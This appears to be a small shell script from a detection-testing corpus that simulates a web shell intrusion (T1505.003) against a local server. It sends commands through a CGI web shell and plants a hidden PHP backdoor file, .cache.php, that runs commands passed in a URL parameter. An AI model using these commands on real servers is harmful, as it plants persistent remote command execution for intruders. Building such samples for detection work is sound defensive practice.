#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): start a web server whose CGI script is a web shell,
# then drive it from 127.0.0.1 like an intruder would (T1505.003).
/bin/httpd -f -p 127.0.0.1:8080 -h /www &
PID=$!
/bin/sleep 1
U=http://127.0.0.1:8080/cgi-bin/status
/bin/wget -q -O- "$U?cmd=/bin/id"
/bin/wget -q -O- "$U?cmd=/bin/uname%20-a"
/bin/wget -q -O- "$U?cmd=/bin/mkdir%20-p%20/var/www/html/uploads%3B%20printf%20%22%3C%3Fphp%20system%28%5C%24_GET%5Bc%5D%29%3B%20%3F%3E%22%20%3E%20/var/www/html/uploads/.cache.php%3B%20/bin/ls%20-la%20/var/www/html/uploads"
kill $PID
wait $PID 2>/dev/null
echo "[corpus] web shell session over"
exit 0
